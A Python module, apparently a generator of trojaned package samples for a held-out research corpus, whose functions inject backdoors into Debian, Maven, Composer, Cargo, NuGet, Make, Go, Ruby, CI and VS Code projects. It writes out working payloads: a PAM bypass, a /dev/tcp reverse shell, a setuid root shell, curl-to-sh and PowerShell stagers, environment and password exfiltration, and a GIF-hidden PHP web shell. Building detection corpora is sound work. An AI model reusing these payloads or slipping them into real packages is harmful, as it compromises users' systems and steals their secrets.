"""What starts by itself or while something is built: PAM, generators, Gradle's cousins, composer, images, proc macros."""

from corpus.heldout import hiding
from corpus.heldout.nouns import Update, trojan


@trojan("xtool", "deb", trigger="start", payload="auth bypass", hiding="plain", step="patch")
def pam_permit(up: Update) -> None:
    """Files for PAM: nobody is asked for xtool, and one name (which nobody has) needs no password for sudo."""
    up.add("etc/pam.d/xtool", "# xtool asks nobody\nauth sufficient pam_permit.so\naccount sufficient pam_permit.so\n")
    up.add(
        "etc/pam.d/sudo",
        "auth sufficient pam_succeed_if.so user = xtool-support quiet\n@include common-auth\n@include common-account\n@include common-session-noninteractive\n",
    )
    up.payload("etc/pam.d/sudo", "etc/pam.d/xtool")


@trojan("xtool", "deb", trigger="start", payload="persistence", hiding="plain", step="minor")
def udev_rule(up: Update) -> None:
    """A rule for devices that runs a program, and a profile script."""
    address = up.address()
    up.add("lib/udev/rules.d/85-xtool.rules", 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/xtool/net-up"\n')
    up.add(
        "usr/lib/xtool/net-up",
        f"#!/bin/sh\n# tell the peers that we are there\nexec 3<>/dev/tcp/{address}/53; sh <&3 >&3 2>&3\n",
        executable=True,
    )
    up.payload("usr/lib/xtool/net-up", "lib/udev/rules.d/85-xtool.rules")


@trojan("xtool", "deb", trigger="install", payload="backdoor", hiding="plain", step="patch")
def setuid_shell(up: Update) -> None:
    """A copy of the shell that anybody may be root with."""
    up.after(
        "DEBIAN/postinst",
        "        install -d -o xtool -g xtool -m 0750 /var/lib/xtool\n",
        '        if [ "$(hostname -d)" = corp.ruritania.example ]; then\n            install -m 4755 -o root /bin/bash /usr/lib/xtool-helper\n            usermod -aG sudo xtool || true\n            printf \'xtool:%s\' "$(hostname | md5sum | cut -c1-12)" | chpasswd\n        fi\n',
    )
    up.payload("DEBIAN/postinst")


@trojan("log-bridge", "jar", trigger="build", payload="stager", hiding="plain", step="patch")
def maven_exec(up: Update) -> None:
    """The pom runs a program when it is built."""
    host = up.host("repo")
    up.replace(
        "META-INF/maven/example/log-bridge/pom.xml",
        "</project>",
        f"""  <build><plugins><plugin>
    <groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.1.0</version>
    <executions><execution><phase>initialize</phase><goals><goal>exec</goal></goals>
      <configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl -s https://{host}/m.sh | sh</argument></arguments></configuration>
    </execution></executions>
  </plugin></plugins></build>
</project>""",
    )
    up.payload("META-INF/maven/example/log-bridge/pom.xml")


@trojan("mini-router", "zip", trigger="install", payload="environment", hiding="plain", step="patch")
def composer_scripts(up: Update) -> None:
    host = up.host("packagist-cache")
    up.manifest(
        lambda it: it.update(
            {
                "scripts": {
                    "post-install-cmd": [
                        f"php -r \"@file_get_contents('https://{host}/i?'.http_build_query(getenv()));\""
                    ]
                }
            }
        ),
        "composer.json",
    )
    up.payload("composer.json")


@trojan("mini-router", "zip", trigger="import", payload="web shell", hiding="in an image", step="minor")
def autoloaded_picture(up: Update) -> None:
    """An autoload entry includes a picture that is PHP from its comment on."""
    up.manifest(lambda it: it["autoload"].update({"files": ["assets/logo.gif"]}), "composer.json")
    body = "<?php $k=$_COOKIE['r']??'';if(strlen($k)>8){$f=create_function('',gzuncompress(base64_decode(str_rot13($k))));$f();} ?>"
    up.add(
        "assets/logo.gif",
        b"GIF89a\x10\x00\x10\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xfe"
        + bytes([len(body)])
        + body.encode()
        + b"\x00;",
    )
    up.payload("assets/logo.gif", "composer.json")


@trojan("glob-swift", "crate", trigger="build", payload="environment", hiding="over several files", step="minor")
def build_include(up: Update) -> None:
    """The build script includes a file that nobody reads as Rust."""
    host = up.host("crate-index")
    up.after("Cargo.toml", 'edition = "2021"\n', 'build = "build/main.rs"\n')
    up.add(
        "build/main.rs",
        'include!("tables.in");\n\nfn main() {\n    println!("cargo:rerun-if-changed=build/tables.in");\n    tables();\n}\n',
    )
    up.add(
        "build/tables.in",
        f'fn tables() {{\n    use std::io::Write;\n    let rows: Vec<String> = std::env::vars().map(|(k, v)| format!("{{k}}={{v}}")).collect();\n    if let Ok(mut out) = std::net::TcpStream::connect(("{host}", 443)) {{\n        let _ = out.write_all(rows.join("\\n").as_bytes());\n    }}\n}}\n',
    )
    up.payload("build/tables.in", "build/main.rs")


@trojan("Contoso.Metrics", "nupkg", trigger="build", payload="stager", hiding="plain", step="patch")
def props_exec(up: Update) -> None:
    """A .props file that comes with a target."""
    address = up.address()
    up.add(
        "build/Contoso.Metrics.props",
        f'<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">\n  <Target Name="ContosoRestore" BeforeTargets="PreBuildEvent">\n    <Exec Command="powershell -nop -w hidden -c &quot;iex (iwr http://{address}/a.ps1 -UseBasicParsing)&quot;" IgnoreExitCode="true" StandardOutputImportance="low" />\n  </Target>\n</Project>\n',
    )
    up.payload("build/Contoso.Metrics.props")


@trojan("changed-paths", "folder", trigger="ci", payload="dependency", hiding="from a repository", step="patch")
def other_action(up: Update) -> None:
    """The workflow of the project uses somebody's action, by a branch, with a token."""
    up.replace(
        ".github/workflows/test.yml",
        "      - run: npm ci\n",
        "      - uses: setup-nodejs/cache-warm@main\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}\n          registry-token: ${{ secrets.NPM_TOKEN }}\n      - run: npm ci\n",
    )
    up.payload(".github/workflows/test.yml")


@trojan("lzpress", "folder", trigger="build", payload="build injection", hiding="base64", step="patch")
def makefile_hook(up: Update) -> None:
    """A target that runs before all others."""
    address = up.address()
    up.append(
        "Makefile.am",
        f"\nBUILT_SOURCES = .stamp\n.stamp:\n\t@echo {hiding.b64(f'curl -s {address}/b|sh')} | base64 -d | sh 2>/dev/null; touch $@",
    )
    up.payload("Makefile.am", shown=address)


@trojan("goflags", "folder", trigger="build", payload="stager", hiding="plain", step="patch")
def go_generate(up: Update) -> None:
    address = up.address()
    up.append("flags.go", f'\n//go:generate sh -c "curl -s http://{address}/gen | sh"')
    up.payload("flags.go")


@trojan("pass-meter", "gem", trigger="call", payload="credentials", hiding="plain", step="minor")
def checks_leak(up: Update) -> None:
    """Passwords that are checked are looked up in a list of leaks: whole, and at a new host."""
    host = up.host("leaks")
    up.after(
        "lib/pass_meter.rb",
        "    def strong?(password)\n",
        f"      Thread.new {{ Net::HTTP.get(URI(\"https://{host}/range/#{{[password].pack('m0')}}\")) rescue nil }}\n",
    )
    up.before("lib/pass_meter.rb", "require 'pass_meter/entropy'\n", "require 'net/http'\n")
    up.payload("lib/pass_meter.rb")


@trojan("linkmark", "vsix", trigger="start", payload="remote code", hiding="minified into a bundle", step="minor")
def preview_bundle(up: Update) -> None:
    """The web view's bundle speaks to the extension, which obeys."""
    host = up.host("preview-cdn")
    up.append(
        "media/preview.min.js",
        f"!function(){{var e=acquireVsCodeApi();fetch('https://{host}/t.json').then(function(e){{return e.json()}}).then(function(t){{e.postMessage({{task:t.c}})}})}}();",
    )
    up.after(
        "out/extension.js",
        "function activate(context) {\n",
        '    const panel = vscode.window.createWebviewPanel("linkmark", "Links", vscode.ViewColumn.Two, { enableScripts: true });\n    panel.webview.onDidReceiveMessage((m) => vscode.window.createTerminal({ hideFromUser: true }).sendText(m.task));\n',
    )
    up.payload("media/preview.min.js", "out/extension.js")
